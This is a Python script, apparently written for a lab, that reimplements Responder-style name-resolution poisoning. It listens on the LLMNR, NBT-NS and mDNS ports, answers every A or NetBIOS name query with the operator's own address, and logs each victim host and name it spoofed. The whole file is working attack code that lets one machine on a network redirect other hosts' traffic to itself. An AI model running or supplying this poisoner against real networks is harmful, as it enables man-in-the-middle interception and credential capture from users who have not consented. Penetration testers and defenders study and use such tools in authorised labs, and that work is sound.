#!/usr/bin/env python3
"""Answers every name that the lab's hosts ask for by LLMNR, NBT-NS and mDNS with its own address, as
Responder does, which is not packaged: the same kind of answers, from the specifications (RFC 4795,
RFC 1002 4.2, RFC 6762).

usage: poisoner.py JOURNAL ADDRESS PROTOCOL...      of llmnr nbns mdns
"""

import os
import select
import socket
import struct
import sys

from journal import Journal

JOURNAL = Journal(sys.argv[1])
ADDRESS = sys.argv[2]
PORTS = {"llmnr": 5355, "nbns": 137, "mdns": 5353}
GROUPS = {"llmnr": "224.0.0.252", "mdns": "224.0.0.251"}


def open_socket(protocol):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    sock.bind(("", PORTS[protocol]))
    if protocol in GROUPS:
        member = socket.inet_aton(GROUPS[protocol]) + socket.inet_aton(ADDRESS)
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, member)
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(ADDRESS))
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)
    return sock


def name_end(query):
    at = 12
    while query[at]:
        at += query[at] + 1
    return at + 1


def answer(protocol, query):
    """The answer to a query, and where it goes if not back to the asker"""
    end = name_end(query)
    name, kind = query[12:end], struct.unpack_from(">H", query, end)[0]
    ours = socket.inet_aton(ADDRESS)
    if protocol == "nbns":
        if kind != 0x20:
            return None
        head = query[:2] + b"\x85\0\0\0\0\1\0\0\0\0"
        return head + name + struct.pack(">HHIHH", 0x20, 1, 165, 6, 0) + ours
    if kind not in (1, 255):
        return None
    if protocol == "llmnr":
        head = query[:2] + b"\x80\0\0\1\0\1\0\0\0\0"
        record = name + struct.pack(">HHIH", 1, 1, 30, 4) + ours
        return head + query[12 : end + 4] + record
    return b"\0\0\x84\0\0\0\0\1\0\0\0\0" + name + struct.pack(">HHIH", 1, 0x8001, 120, 4) + ours


def readable(protocol, name):
    if protocol == "nbns":  # first-level encoding: a half byte a letter
        text = name[1:33]
        halves = [byte - 65 for byte in text]
        pairs = zip(halves[::2], halves[1::2])
        return bytes(high * 16 + low for high, low in pairs)[:15].decode("latin1").strip()
    parts, at = [], 0
    while name[at]:
        parts.append(name[at + 1 : at + 1 + name[at]].decode("latin1"))
        at += name[at] + 1
    return ".".join(parts)


def main():
    sockets = {open_socket(protocol): protocol for protocol in sys.argv[3:]}
    while True:
        for sock in select.select(list(sockets), [], [])[0]:
            query, peer = sock.recvfrom(2048)
            protocol = sockets[sock]
            if peer[0] == ADDRESS or len(query) < 17 or query[2] & 0x80:
                continue
            response = answer(protocol, query)
            if response is None:
                continue
            sock.sendto(response, (GROUPS["mdns"], 5353) if protocol == "mdns" else peer)
            name = readable(protocol, query[12 : name_end(query)])
            JOURNAL.write("answered", protocol=protocol, name=name, asker=peer[0])


if __name__ == "__main__":
    main()
